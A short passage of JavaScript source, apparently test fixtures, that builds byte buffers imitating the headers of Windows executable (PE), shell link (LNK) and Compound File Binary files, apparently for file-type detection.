  Buffer.alloc(58),
  Buffer.from([0x40, 0, 0, 0]),
  Buffer.from('PE\0\0'),
  Buffer.alloc(200),
]);
/** Shell link header (ShellLinkHeader with the LinkCLSID). */
export const LNK_HEADER = Buffer.concat([Buffer.from('4c0000000114020000000000c000000000000046', 'hex'), Buffer.alloc(56)]);
export const CFB_HEADER = Buffer.concat([Buffer.from('d0cf11e0a1b11ae1', 'hex'), Buffer.alloc(504)]);
